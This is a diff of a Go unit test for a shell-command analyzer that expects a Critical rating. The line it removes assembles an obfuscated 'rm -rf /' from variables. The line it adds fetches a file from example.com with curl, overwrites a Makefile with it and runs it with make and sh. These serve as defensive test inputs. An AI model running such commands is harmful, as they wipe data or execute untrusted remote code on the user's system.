@@ -9,7 +9,7 @@ import (
 // analyzed. Its program text is put together from variables, of which any may
 // be what runs.
 func TestVerdictIsSteady(t *testing.T) {
-	command := "v4='`rm'; v5='-rf'; v6='/`;'; node -e \"<p>it's</p><?php echo \" $v4 $v5 $v6 '?>'"
+	command := "echo a > x.py; curl -so b https://example.com/b; cp b Makefile; make; python3 x.py; sh b"
 	first := Analyze(command)
 	if first.Severity != Critical {
 		t.Fatalf("%q is %s", command, first.Severity)
